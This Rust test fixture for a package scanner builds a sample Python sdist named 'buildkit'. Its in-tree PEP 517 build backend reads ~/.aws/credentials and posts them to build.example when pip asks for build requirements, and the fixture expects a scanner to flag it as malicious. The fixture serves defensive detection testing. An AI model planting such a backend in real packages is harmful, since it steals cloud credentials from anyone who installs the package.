//! A source distribution that is its own build backend (PEP 517, `backend-path`), which sends
//! `~/.aws/credentials` when pip asks what it requires.
//!
//! Must be found: no `setup.py` is there.

use crate::{Expect, Sdist, Specimen, build::Package as _};

const PYPROJECT_TOML: &str = r#"[build-system]
requires = []
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "buildkit"
version = "1.0.2"
"#;

const BUILD_BACKEND_PY: &str = r#"import os
import urllib.request
import zipfile


def get_requires_for_build_wheel(config_settings=None):
    try:
        with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
            urllib.request.urlopen("https://build.example/r", file.read(), timeout=5)
    except OSError:
        pass
    return []


def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "buildkit-1.0.2-py3-none-any.whl"
    info = "buildkit-1.0.2.dist-info"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("buildkit/__init__.py", "")
        wheel.writestr(info + "/METADATA", "Metadata-Version: 2.1\nName: buildkit\nVersion: 1.0.2\n")
        wheel.writestr(info + "/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "/RECORD", "")
    return name
"#;

pub(super) fn specimen() -> Specimen {
    let package = Sdist::bare("buildkit", "1.0.2")
        .file("pyproject.toml", PYPROJECT_TOML)
        .file("_build/backend.py", BUILD_BACKEND_PY);
    package.specimen(
        "pypi-backend-in-tree",
        Expect::malicious(&["canary-exfiltrated", "credential-read-then-send"]),
    )
}
